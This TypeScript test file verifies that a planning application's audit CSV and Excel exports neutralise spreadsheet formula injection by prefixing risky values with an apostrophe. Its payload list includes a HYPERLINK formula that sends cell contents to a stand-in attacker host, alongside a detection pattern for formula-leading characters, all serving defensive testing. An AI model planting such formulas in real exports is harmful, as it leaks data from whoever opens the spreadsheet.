/**
 * Issue 10, defect 10: a reason or value starting with = + - @ was written into the audit CSV as a
 * formula. Each such text now gets a leading apostrophe (OWASP, "CSV Injection"). The Excel export
 * is checked for the same: a text that starts with "=" is a text cell, never a formula.
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPlanDocument } from '../../src/documents/plan-view-model.ts';
import { renderXlsx } from '../../src/documents/xlsx.ts';
import { csvCell } from '../../src/services/audit-service.ts';
import { draftKey, startApi, type Api } from '../api/harness.ts';
import { injectEverywhere } from './plan-walk.ts';

const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")', '＝1+1'];
const startsAsFormula = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

describe('formula injection', () => {
  let api: Api;
  beforeAll(async () => {
    api = await startApi('pglite', { demo: false });
  });
  afterAll(() => api?.close());

  it('defect 10: a reason starting with = + - @ tab or CR is text in the audit CSV', async () => {
    const admin = await api.as('admin');
    const url = `/api/plans/${draftKey}`;
    for (const [index, reason] of formulas.entries()) {
      const etag = String((await admin.get(url)).headers.etag);
      const response = await admin.send('PATCH', url, { title: `Verksamhetsplan ${index}` }, { 'if-match': etag, 'x-reason': encodeURIComponent(reason) });
      expect(response.statusCode).toBe(200);
    }
    const csv = await admin.get(`/api/audit?plan=${draftKey}&format=csv`);
    expect(csv.statusCode).toBe(200);
    const rows: string[][] = parse(csv.body.replace(/^\ufeff/, ''), { relax_column_count: false });
    const cells = rows.flat();
    expect(cells.filter((cell) => startsAsFormula.test(cell))).toEqual([]);
    const reasons = rows.slice(1).map((row) => row[10]);
    for (const reason of formulas) expect(reasons).toContain(`'${reason}`);
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    ['-68 851', `"'-68 851"`],
    ['@x', `"'@x"`],
    ['Rättat stavfel', 'Rättat stavfel'],
    ['a=b', 'a=b'],
    ['säger "nej"', '"säger ""nej"""'],
    [null, ''],
    [{ title: '=1' }, '"{""title"":""=1""}"'],
  ])('defect 10: the CSV cell of %j is %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('defect 10: texts starting with "=" are text cells in the Excel export, never formulas', async () => {
    const { plan, injected } = injectEverywhere('timra-sn-2020-2022.json', '=HYPERLINK("https://angripare.example/","x")', { atStart: true });
    expect(injected).toBeGreaterThan(300);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsx(buildPlanDocument(plan))) as unknown as ArrayBuffer);
    let asText = 0;
    let asFormula = 0;
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) asFormula += 1;
          else if (typeof cell.value === 'string' && cell.value.startsWith('=HYPERLINK')) asText += 1;
        }),
      ),
    );
    expect(asFormula).toBe(0);
    expect(asText).toBeGreaterThan(50);
  });
});
